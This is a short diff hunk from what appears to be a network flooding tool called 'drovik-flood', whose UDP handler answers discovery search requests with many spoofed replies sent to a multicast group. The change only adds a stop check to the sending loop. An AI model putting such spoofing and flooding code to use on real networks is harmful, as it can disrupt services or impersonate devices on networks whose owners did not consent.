@@ -113,7 +113,8 @@ int main(int argc, char** argv) {
       udp.Handle(kSearchRequestType, [&](const std::vector<std::uint8_t>& request) {
         if (request.size() < 11) return;
         loop.After(options.delayMs, [&, request] {
-          for (int i = 0; i < options.amount; ++i) udp.SendToGroup(SpoofedReply(request, ++serial));
+          for (int i = 0; i < options.amount && !stopRequested; ++i)
+            udp.SendToGroup(SpoofedReply(request, ++serial));
           std::fprintf(stderr, "drovik-flood: %d replies to a search\n", options.amount);
         });
       });
